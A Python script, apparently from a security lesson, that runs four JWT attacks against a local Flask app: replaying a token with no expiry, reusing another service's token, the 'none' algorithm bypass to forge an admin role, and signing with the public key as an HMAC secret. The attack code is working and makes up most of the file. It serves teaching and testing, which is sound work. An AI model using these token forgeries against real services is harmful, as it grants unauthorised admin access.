"""Attacks of lesson 3, tried on app.py."""

import hmac
import time
from base64 import urlsafe_b64encode

import jwt
from app import app
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

client = app.test_client()
ADA = {"username": "ada", "password": "analytical engine"}
CLAIMS = jwt.decode(client.post("/login", json=ADA).json["token"], options={"verify_signature": False})


def use_old_token():
    """Use a token of this service that has no exp, from a backup that is years old."""
    return is_accepted(sign({key: value for key, value in CLAIMS.items() if key != "exp"}))


def use_token_of_other_service():
    """Use a token that another service with the same key has issued for itself."""
    return is_accepted(sign({**CLAIMS, "iat": int(time.time()), "aud": "newsletter"}))


def remove_signature():
    """Name the algorithm none, and omit the signature. Become an administrator."""
    return is_accepted(jwt.encode({**CLAIMS, "role": "admin"}, None, algorithm="none"), role="admin")


def sign_with_public_key():
    """Sign with the public key, in a service that has got a PEM file as its key. Everybody knows the public key."""
    key = ec.generate_private_key(ec.SECP256R1()).public_key()
    pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    text = sign({**CLAIMS, "role": "admin"}).rpartition(".")[0]
    signature = urlsafe_b64encode(hmac.digest(pem, text.encode(), "sha256")).decode().rstrip("=")
    secret, app.config["KEY"] = app.config["KEY"], pem
    try:
        return is_accepted(f"{text}.{signature}", role="admin")
    finally:
        app.config["KEY"] = secret


def sign(claims):
    """Return a token that is signed with the key of the service."""
    return jwt.encode(claims, app.config["KEY"], algorithm="HS256")


def is_accepted(token, role="editor"):
    """Return whether the service accepts a token with a role."""
    response = client.get("/me", headers={"Authorization": f"Bearer {token}"})
    return response.status_code == 200 and response.json["role"] == role


for attack in (use_old_token, use_token_of_other_service, remove_signature, sign_with_public_key):
    print(f"{attack.__name__}: {'succeeds' if attack() else 'fails'}")
